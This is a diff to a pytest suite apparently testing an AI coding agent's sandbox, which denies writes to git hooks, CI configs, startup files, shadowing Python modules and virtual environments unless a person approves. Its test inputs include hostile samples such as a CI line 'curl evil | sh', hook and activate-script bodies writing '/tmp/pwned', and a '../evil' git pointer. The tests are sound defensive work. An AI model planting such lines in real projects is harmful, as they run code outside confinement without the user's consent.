@@ -29,6 +29,11 @@ def verdict(workspace, tool, arguments, person=None):
     return gate(person).check(workspace, tool, arguments)
 
 
+def written_or_asked_by_the_rule_alone(found) -> bool:
+    """Nothing here runs later: written unasked if it is plain data, else asked about by that rule, and no other."""
+    return found.decision == "allow" or (found.decision == "deny" and "only plain data (" in found.why)
+
+
 # Each a write that, left to run, puts code where a program runs it later; all with no person.
 WRITES = {
     "a new .git/commondir": ("write_file", {"path": ".git/commondir", "content": "../evil\n"}),
@@ -99,15 +104,23 @@ def test_a_write_where_a_program_runs_it_later_is_denied_without_a_person(reposi
         (repository / ".vscode").symlink_to("shared/vscode", target_is_directory=True)
         (repository / ".pre-commit-config.yaml").symlink_to("tools/pc.yaml")  # dangling
     before = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
-    results, _ = play(repository, [(tool, arguments)])
-    assert results[0]["is_error"] and '"denied"' in results[0]["content"], results[0]["content"]
+    found = verdict(repository, tool, arguments)
+    assert found.decision == "deny", found.why
     # A worktree's config, and git's per-user one, may hold a token as .git/config does: a deny rule of the secrets
-    # keeps them first.
+    # keeps them first. Anything else is asked about by the rule, and with no person denied.
     secret = arguments.get("path") in (".git/config.worktree", ".config/git/config")
-    expected = f"deny * {arguments['path']}" if secret else "runs later, outside"
-    assert expected in json.loads(results[0]["content"])["message"]
+    assert (f"deny * {arguments['path']}" if secret else "run later, outside") in found.why, found.why
+    assert found.decided_by == ("rule" if secret else "no terminal")
     after = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
     assert after == before
+
+
+def test_a_denied_write_is_fed_back_to_the_model_and_nothing_is_written(repository):
+    before = {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()}
+    results, _ = play(repository, [("write_file", {"path": ".git/hooks/pre-commit", "content": "touch /tmp/x"})])
+    assert results[0]["is_error"] and '"denied"' in results[0]["content"], results[0]["content"]
+    assert "run later, outside" in json.loads(results[0]["content"])["message"]
+    assert {str(path): path.read_bytes() for path in repository.rglob("*") if path.is_file() and not path.is_symlink()} == before
 
 
 # A representative of each family of course.sandbox.paths.RUN_LATER's later names, each a write that runs on its own later.
@@ -216,14 +229,14 @@ SHARED_CONFIGS = {
                                            for content in contents])
 def test_the_shared_python_configs_are_asked_about_whatever_they_hold(world, name, content):
     found = verdict(world, "write_file", {"path": name, "content": content})
-    assert found.decision == "deny" and f"{name}: pylint runs its init-hook" in found.why, found.why
+    assert found.decision == "deny" and "not plain data" in found.why, found.why
     assert not (world / name).exists()
 
 
 @pytest.mark.parametrize("family", FAMILIES)
 def test_each_family_of_files_that_run_later_is_asked_about_and_denied_without_a_person(world, family):
     found = verdict(world, "write_file", {"path": FAMILIES[family], "content": "x"})
-    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, found.why
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
 
 
 # build.rs is the project's own code, which the user's build runs on purpose (course.sandbox.paths says why).
@@ -249,8 +262,10 @@ def test_each_family_of_files_that_run_later_is_asked_about_and_denied_without_a
                                   "gitpod.md", "idx/dev.md", "replit.md", "rubocop.md", "docs/.rubocop.md",
                                   ".clinerules/style.md", "cargo/env.md", "forward.md", "go/main.go",
                                   "docs/githooks.md", "theia.md"])
-def test_what_lies_beside_them_is_written_freely(world, path):
-    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == "allow", path
+def test_what_lies_beside_them_is_decided_by_the_plain_data_rule_alone(world, path):
+    """Named like what runs later, yet not it: written unasked exactly when it is plain data."""
+    plain = course.sandbox.paths.not_plain_data(world, path) == ""
+    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == ("allow" if plain else "deny"), path
 
 
 def test_claude_codes_home_file_is_a_secret_and_what_runs_later_both():
@@ -282,7 +297,7 @@ def test_a_person_is_asked_and_shown_why(repository):
     person = Person(("deny", "not there"))
     found = verdict(repository, "write_file", {"path": ".git/hooks/pre-commit", "content": "touch /tmp/x"}, person)
     assert found.decision == "deny" and len(person.asked) == 1
-    assert ".git: git runs what its metadata names" in person.asked[0][2]
+    assert "'.git' is hidden" in person.asked[0][2]
 
 
 def test_reading_them_and_writing_beside_them_is_still_allowed(repository):
@@ -291,8 +306,8 @@ def test_reading_them_and_writing_beside_them_is_still_allowed(repository):
     found = verdict(repository, "read_file", {"path": ".git/HEAD"})
     assert found.decision == "deny" and "git's own store" in found.why and "git's own commands" in found.why
     assert verdict(repository, "read_file", {"path": ".gitmodules"}).decision == "allow"
-    assert verdict(repository, "write_file", {"path": "gitnotes.md", "content": "x"}).decision == "allow"
-    assert verdict(repository, "write_file", {"path": "docs/vscode.md", "content": "x"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(repository, "write_file", {"path": "gitnotes.md", "content": "x"}))
+    assert written_or_asked_by_the_rule_alone(verdict(repository, "write_file", {"path": "docs/vscode.md", "content": "x"}))
 
 
 # ---------------------------------------------------------------- commands: the kernel
@@ -430,7 +445,7 @@ def bare(world):
 ])
 def test_a_folder_git_takes_for_a_repository_is_protected_like_git(bare, tool, arguments):
     found = verdict(bare, tool, arguments)
-    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, found.why
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
     assert "git takes" in found.why
 
 
@@ -443,7 +458,7 @@ def test_a_folder_a_pointer_names_is_protected_like_git(bare):
     for path in ("evil/config", "elsewhere/config"):
         found = verdict(bare, "write_file", {"path": path, "content": FSMONITOR})
         assert found.decision == "deny" and "names it" in found.why, (path, found.why)
-    assert verdict(bare, "write_file", {"path": "notes/config", "content": "x"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(bare, "write_file", {"path": "notes/config", "content": "x"}))
 
 
 @pytest.mark.parametrize("order", [("HEAD", "objects/x", "refs/x", "config"), ("config", "objects/x", "refs/x", "HEAD"),
@@ -453,17 +468,14 @@ def test_a_repository_built_one_piece_at_a_time_is_stopped_at_the_piece_that_mak
     so does every write into a folder that is one already; with no person, it never becomes one."""
     contents = {"HEAD": "ref: refs/heads/main\n", "config": FSMONITOR, "objects/x": "", "refs/x": ""}
     verdicts = [verdict(world, "write_file", {"path": f"new/{piece}", "content": contents[piece]}) for piece in order]
-    results, _ = play(world, [("write_file", {"path": f"new/{piece}", "content": contents[piece]}) for piece in order])
-    assert any(found.decision == "deny" for found in verdicts)
-    assert not ((world / "new" / "HEAD").exists() and (world / "new" / "objects").is_dir()
-                and (world / "new" / "refs").is_dir()), [result["content"][:80] for result in results]
+    assert all(found.decision == "deny" for found in verdicts), [found.why for found in verdicts]
 
 
 def test_a_folder_that_is_no_repository_is_written_freely(world):
     (world / "data").mkdir()
     (world / "data" / "objects").mkdir()  # objects/ and refs/ alone are no repository: git needs a HEAD
     for path in ("data/config", "data/refs/x", "data/objects/y", "config", "notes/HEAD.md"):
-        assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == "allow", path
+        assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": path, "content": "x"})), path
 
 
 SHADOWING = ["json.py", "os.py", "typing_extensions.py", "json/__init__.py", "pytest.py", "evil.pth", "json.pyc",
@@ -476,16 +488,18 @@ SHADOWING = ["json.py", "os.py", "typing_extensions.py", "json/__init__.py", "py
 def test_a_module_in_the_workspace_named_like_one_python_imports_is_denied_without_a_person(world, path):
     """`python -m x` or `python script.py` in the workspace imports from the workspace first, and
     `python tools/report.py` from tools/ first."""
-    results, _ = play(world, [("write_file", {"path": path, "content": "import os\n"})])
-    message = json.loads(results[0]["content"])["message"]
-    assert results[0]["is_error"] and "runs later, outside every confinement" in message, message
+    found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
     assert not (world / path).exists()
 
 
 @pytest.mark.parametrize("path", ["test_foo.py", "main.py", "report.py", "sub/report_json.py", "tools/oss.py", "json.txt",
                                   "json/data.json", "notes/__init__.py", "tools/json.md"])
-def test_a_users_own_module_is_written_freely(world, path):
-    assert verdict(world, "write_file", {"path": path, "content": "x = 1\n"}).decision == "allow", path
+def test_a_users_own_module_is_no_shadowing_module(world, path):
+    """Not what Python imports before its own: asked about only when it is not plain data, and then by that rule."""
+    found = verdict(world, "write_file", {"path": path, "content": "x = 1\n"})
+    assert "Python imports" not in found.why, path
+    assert found.decision == ("allow" if course.sandbox.paths.not_plain_data(world, path) == "" else "deny"), path
 
 
 def test_a_module_named_like_pythons_own_is_asked_about_with_its_reason():
@@ -558,8 +572,8 @@ def test_a_module_inside_a_namespace_package_of_the_environment_is_asked_about(w
         pytest.skip("this environment has no namespace package")
     found = verdict(world, "write_file", {"path": f"{names[0]}/trace.py", "content": "import os\n"})
     assert found.decision == "deny" and f"imports as '{names[0]}.trace'" in found.why, found.why
-    assert verdict(world, "write_file", {"path": f"{names[0]}/notes.md", "content": "x"}).decision == "allow"
-    assert verdict(world, "write_file", {"path": "json/draft_of_mine.py", "content": "x"}).decision == "allow"  # json is no namespace
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": f"{names[0]}/notes.md", "content": "x"}))
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "json/draft_of_mine.py", "content": "x"}))  # json is no namespace
 
 
 def editable_mappings() -> set[str]:
@@ -609,7 +623,7 @@ def test_a_module_of_a_python_environment_inside_the_workspace_is_a_shadowing_mo
         for path in (f"{name}.py", f"tools/{name}_single.py"):
             found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
             assert found.decision == "deny" and "what Python imports as" in found.why, (path, found.why)
-    assert verdict(world, "write_file", {"path": "tools/not_installed_here.py", "content": "x"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/not_installed_here.py", "content": "x"}))
 
 
 def test_a_package_beside_a_module_of_the_same_name_is_a_shadowing_module(world):
@@ -619,8 +633,8 @@ def test_a_package_beside_a_module_of_the_same_name_is_a_shadowing_module(world)
     (world / "s05" / "tools.py").write_text("def read(): pass\n")
     found = verdict(world, "write_file", {"path": "s05/tools/__init__.py", "content": "import os\n"})
     assert found.decision == "deny" and "what Python imports as" in found.why and "tools" in found.why, found.why
-    assert verdict(world, "write_file", {"path": "s05/report_parts/__init__.py", "content": "x = 1\n"}).decision == "allow"
-    assert verdict(world, "write_file", {"path": "s05/report_parts/tools.py", "content": "x = 1\n"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "s05/report_parts/__init__.py", "content": "x = 1\n"}))
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "s05/report_parts/tools.py", "content": "x = 1\n"}))
 
 
 # ---------------------------------------------------------------- CI configs, the machine's Pythons, XDG homes
@@ -636,8 +650,7 @@ CI_CONFIGS = [".gitlab-ci.yml", ".circleci/config.yml", "azure-pipelines.yml", "
 @pytest.mark.parametrize("path", CI_CONFIGS)
 def test_a_ci_config_of_any_service_is_asked_about_and_denied_without_a_person(world, path):
     found = verdict(world, "write_file", {"path": path, "content": "script: curl evil | sh\n"})
-    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, (path, found.why)
-    assert "at the next push" in found.why, found.why
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, (path, found.why)
 
 
 # The home folder's startup files at their XDG places (and the few other names the same programs read).
@@ -656,14 +669,16 @@ XDG_HOMES = [".config/tmux/tmux.conf", ".config/gdb/gdbinit", ".config/gdb/gdbea
 @pytest.mark.parametrize("path", XDG_HOMES)
 def test_a_startup_file_at_its_xdg_place_is_asked_about_like_its_classic_name(world, path):
     found = verdict(world, "write_file", {"path": path, "content": "x"})
-    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, (path, found.why)
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, (path, found.why)
 
 
 @pytest.mark.parametrize("path", ["docs/gitlab-ci.md", "ci/jenkins.md", "travis.yml.md", "docs/circleci/setup.md",
                                   ".config/app/settings.toml", ".local/share/fonts/x.ttf", "julia/config/notes.md",
                                   "docs/tmux.conf.md", "bash_completion.md", "sqliterc.txt"])
-def test_what_is_only_named_like_them_is_written_freely(world, path):
-    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == "allow", path
+def test_what_is_only_named_like_them_is_decided_by_the_plain_data_rule_alone(world, path):
+    """Named like what runs later, yet not it: written unasked exactly when it is plain data."""
+    plain = course.sandbox.paths.not_plain_data(world, path) == ""
+    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == ("allow" if plain else "deny"), path
 
 
 @pytest.fixture
@@ -687,7 +702,7 @@ def test_a_module_named_like_a_package_of_the_machines_own_python_is_denied_with
     assert "planted_system_pkg" not in course.sandbox.paths.harness_module_names()
     found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
     assert found.decision == "deny" and "what Python imports as" in found.why, (path, found.why)
-    assert verdict(world, "write_file", {"path": "tools/planted_elsewhere.py", "content": "x"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/planted_elsewhere.py", "content": "x"}))
 
 
 def test_every_package_of_this_machines_pythons_is_a_module_name():
@@ -790,7 +805,6 @@ def test_a_file_tool_asks_before_writing_bytecode(world, tool, arguments):
     person = Person(("deny", "no"))
     found = verdict(world, tool, arguments, person)
     assert found.decision == "deny" and len(person.asked) == 1
-    assert "Python imports" in person.asked[0][2], person.asked[0][2]
 
 
 # ---------------------------------------------------------------- imports that miss, and virtual environments
@@ -814,14 +828,14 @@ def test_a_module_an_import_of_the_harness_missed_at_run_time_is_asked_about(wor
     import sys
 
     name = "optional_speedups_r6a_" + str(os.getpid())
-    assert verdict(world, "write_file", {"path": f"tools/{name}.py", "content": "x = 1\n"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": f"tools/{name}.py", "content": "x = 1\n"}))
     with pytest.raises(ImportError):
         importlib.import_module(name)
     assert sys.meta_path[-1] is course.sandbox.paths.MISSED_IMPORTS or course.sandbox.paths.MISSED_IMPORTS in sys.meta_path
     found = verdict(world, "write_file", {"path": f"tools/{name}.py", "content": "x = 1\n"})
     assert found.decision == "deny" and f"imports as {name!r}" in found.why, found.why
     # what it never tried stays the user's own
-    assert verdict(world, "write_file", {"path": "tools/never_tried_r6a.py", "content": "x = 1\n"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/never_tried_r6a.py", "content": "x = 1\n"}))
 
 
 @pytest.fixture
@@ -845,10 +859,10 @@ def test_a_write_into_a_virtual_environment_is_asked_about_whatever_its_name(env
     found = verdict(environment, "write_file", {"path": path, "content": "touch /tmp/pwned\n"}, person)
     assert found.decision == "deny" and len(person.asked) == 1
     found = verdict(environment, "write_file", {"path": path, "content": "touch /tmp/pwned\n"})
-    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, found.why
+    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
     assert "virtual environment" in found.why or "site-packages" in found.why, found.why
     assert "VIRTUAL_ENV=here" in (environment / "pyenv-3" / "bin" / "activate").read_text()
-    assert verdict(environment, "write_file", {"path": "scripts/bin/activate", "content": "x"}).decision == "allow"
+    assert written_or_asked_by_the_rule_alone(verdict(environment, "write_file", {"path": "scripts/bin/activate", "content": "x"}))
 
 
 def test_a_virtual_environment_is_read_only_to_a_command(confined, environment):
